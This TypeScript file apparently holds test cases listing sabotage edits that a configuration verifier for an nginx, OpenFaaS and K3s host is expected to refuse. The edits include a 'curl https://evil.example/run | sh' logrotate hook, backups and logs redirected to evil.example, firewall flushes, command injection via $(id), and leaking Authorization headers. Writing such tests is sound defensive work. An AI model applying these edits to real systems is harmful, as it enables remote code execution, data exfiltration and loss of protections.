import { refused } from './brief.ts';
import type { Edit, SabotagesOfKind } from './sabotage.ts';

const rotation = '/etc/logrotate.d/nginx';
const journal = '/etc/systemd/journald.conf.d/fjord.conf';
const looks = '/usr/local/sbin/fjord-logs';
const nginx = '/etc/systemd/system/nginx.service.d/fjord.conf';
const k3s = '/etc/systemd/system/k3s.service.d/fjord.conf';
const packets = '/etc/systemd/system/fjord-firewall.service';
const conf = 'nginx/openfaas.conf';
const load = '/usr/sbin/nft --file /etc/fjord/firewall.nft';
const copies = (find: string, put: string): Edit => ({ file: 'manifests/60-functions.yaml', find, put });
const full = 'gateway-full';

/** What bounds logs, memory and copies, and what only some may pass. */
export const bounds: SabotagesOfKind = [
  refused(
    'copies that somebody else reads',
    'verify/backup-not-as-meant',
    {
      file: '/usr/local/sbin/fjord-backup',
      find: 'recipients=(age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p',
      put: 'recipients=(age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg',
    },
    'every-option',
  ),
  refused(
    'copies that go to somebody else',
    'verify/backup-not-as-meant',
    {
      file: '/usr/local/sbin/fjord-backup',
      find: 'local copy bucket=https://s3.example.no/everything-backups',
      put: 'local copy bucket=https://s3.evil.example/everything-backups',
    },
    'every-option',
  ),
  refused(
    'copies that nobody makes',
    'verify/backup-not-as-meant',
    { file: 'apply.sh', find: 'systemctl enable --quiet fjord-backup.timer\n', put: '' },
    'every-option',
  ),
  refused(
    'alerts that go to somebody else',
    'verify/alerts-not-as-meant',
    { file: '/usr/local/sbin/fjord-watch', find: '"ntfy.example.no"', put: '"ntfy.evil.example"' },
    'every-option',
  ),
  refused(
    'alerts that are sent too late',
    'verify/alerts-not-as-meant',
    { file: '/usr/local/sbin/fjord-watch', find: '"disk": 80', put: '"disk": 100' },
    'every-option',
  ),
  refused(
    'alerts that nobody looks for',
    'verify/alerts-not-as-meant',
    { file: 'apply.sh', find: 'systemctl enable --quiet fjord-watch.timer\n', put: '' },
    'every-option',
  ),
  refused('a rotation runs another command', 'verify/script-edited', {
    file: rotation,
    find: '    postrotate\n',
    put: '    postrotate\n        curl -s https://evil.example/run | sh\n',
  }),
  refused('a command before each rotation', 'verify/script-edited', {
    file: rotation,
    find: '    sharedscripts\n',
    put: '    sharedscripts\n    firstaction\n        id\n    endscript\n',
  }),
  refused('logs that everybody may write', 'verify/script-edited', {
    file: rotation,
    find: 'create 0640 www-data adm',
    put: 'create 0666 www-data adm',
  }),
  refused('logs are mailed to somebody', 'verify/script-edited', {
    file: rotation,
    find: '    compress\n',
    put: '    compress\n    mail log@evil.example\n',
  }),
  refused('a log rotates at a size that it never has', 'verify/lock-differs', {
    file: rotation,
    find: 'size 67108864',
    put: 'size 671088640000',
  }),
  refused('the journal has no limit', 'verify/script-edited', {
    file: journal,
    find: 'SystemMaxUse=536870912\n',
    put: '',
  }),
  refused('the journal may fill the disk', 'verify/lock-differs', {
    file: journal,
    find: 'SystemMaxUse=536870912',
    put: 'SystemMaxUse=536870912000',
  }),
  refused('the journal is sent to somebody', 'verify/script-edited', {
    file: journal,
    find: 'ForwardToSyslog=no',
    put: 'ForwardToSocket=203.0.113.66:514',
  }),
  refused('the look at the logs runs another command', 'verify/script-edited', {
    file: looks,
    find: 'logs=/var/log/nginx\n',
    put: 'logs=/var/log/nginx\nid >/tmp/id\n',
  }),
  refused('the look at the logs removes other files', 'verify/script-edited', {
    file: looks,
    find: 'logs=/var/log/nginx\n',
    put: 'logs=/\n',
  }),
  refused('the look at the logs keeps everything', 'verify/lock-differs', {
    file: looks,
    find: 'keep=613416960',
    put: 'keep=613416960000',
  }),
  refused('the look at the logs keeps what a command says', 'verify/script-edited', {
    file: looks,
    find: 'keep=613416960',
    put: 'keep=$(id)',
  }),
  refused('the logs are looked at once a year', 'verify/script-edited', {
    file: '/etc/systemd/system/fjord-logs.timer',
    find: 'OnUnitInactiveSec=5s',
    put: 'OnUnitInactiveSec=1y',
  }),
  refused('nginx may have all memory', 'verify/memory-limit-missing', {
    file: nginx,
    find: 'MemoryMax=1879048192',
    put: 'MemoryMax=infinity',
  }),
  refused('nginx may have all memory, said again', 'verify/script-edited', {
    file: nginx,
    put: 'MemoryMax=infinity\n',
  }),
  refused('nginx may have all swap', 'verify/script-edited', {
    file: nginx,
    find: 'MemorySwapMax=0',
    put: 'MemorySwapMax=infinity',
  }),
  refused('nginx dies last', 'verify/script-edited', {
    file: nginx,
    find: 'OOMScoreAdjust=100',
    put: 'OOMScoreAdjust=-1000',
  }),
  refused('K3s dies first', 'verify/script-edited', {
    file: k3s,
    find: 'OOMScoreAdjust=-999',
    put: 'OOMScoreAdjust=1000',
  }),
  refused('errors of nginx drive out the rest of the journal', 'verify/script-edited', {
    file: nginx,
    find: 'LogRateLimitBurst=600',
    put: 'LogRateLimitBurst=0',
  }),
  refused(
    'copies end as soon as they are idle',
    'verify/object-not-ours',
    copies(
      '    scaleDown:\n      selectPolicy: Disabled\n',
      '    scaleDown:\n      stabilizationWindowSeconds: 0\n',
    ),
  ),
  refused(
    'fewer copies at most than at least',
    'verify/schema',
    copies('  maxReplicas: 5\n', '  maxReplicas: 1\n'),
  ),
  refused(
    'any protocol is switched to',
    'verify/upgrade-not-websocket',
    {
      file: conf,
      find: 'upgrade[ \\\\t]*(?:,[^|]*)?\\\\|websocket$" websocket;',
      put: 'upgrade[ \\\\t]*(?:,[^|]*)?\\\\|(?:websocket|h2c)$" $http_upgrade;',
    },
    full,
  ),
  refused('idle connections outlive the pods that they lead to', 'verify/calls-cut', {
    file: conf,
    find: 'keepalive_time 10s;',
    put: 'keepalive_time 10h;',
  }),
  refused("the firewall's unit flushes everything first", 'verify/script-edited', {
    file: packets,
    find: `ExecStart=${load}\n`,
    put: `ExecStart=/usr/sbin/nft flush ruleset\nExecStart=${load}\n`,
  }),
  refused("the firewall's unit loads another table", 'verify/script-edited', {
    file: packets,
    find: `ExecStart=${load}\n`,
    put: 'ExecStart=/usr/sbin/nft --file /tmp/firewall.nft\n',
  }),
  refused("the firewall's unit flushes everything when it stops", 'verify/script-edited', {
    file: packets,
    find: `ExecReload=${load}\n`,
    put: `ExecReload=${load}\nExecStop=/usr/sbin/nft flush ruleset\n`,
  }),
  refused("the firewall's unit comes after the network", 'verify/script-edited', {
    file: packets,
    find: 'Before=network-pre.target sysinit.target',
    put: 'After=multi-user.target\nBefore=sysinit.target',
  }),
  refused('refused paths are answered with 200', 'verify/path-let-through', {
    file: conf,
    find: '    if ($openfaas_path_refused) {\n        return 400;',
    put: '    if ($openfaas_path_refused) {\n        return 200;',
  }),
  refused('every request is answered with 200', 'verify/directive-not-ours', {
    file: conf,
    find: '    client_body_timeout 30s;\n',
    put: '    client_body_timeout 30s;\n    if ($request_uri) {\n        return 200;\n    }\n',
  }),
  refused('errors lead to a function', 'verify/map-spares-clients', {
    file: conf,
    find: 'map $uri $openfaas_error_place {\n    default @openfaas_error;',
    put: 'map $uri $openfaas_error_place {\n    default /function/export-ledger;',
  }),
  refused('errors lead to another machine', 'verify/map-spares-clients', {
    file: conf,
    find: 'map $uri $openfaas_error_place {\n    default @openfaas_error;',
    put: 'map $uri $openfaas_error_place {\n    default https://evil.example/;',
  }),
  refused('errors say what the client sent', 'verify/answer-repeats-request', {
    file: conf,
    find: '    404 "not found";',
    put: '    404 $http_authorization;',
  }),
];
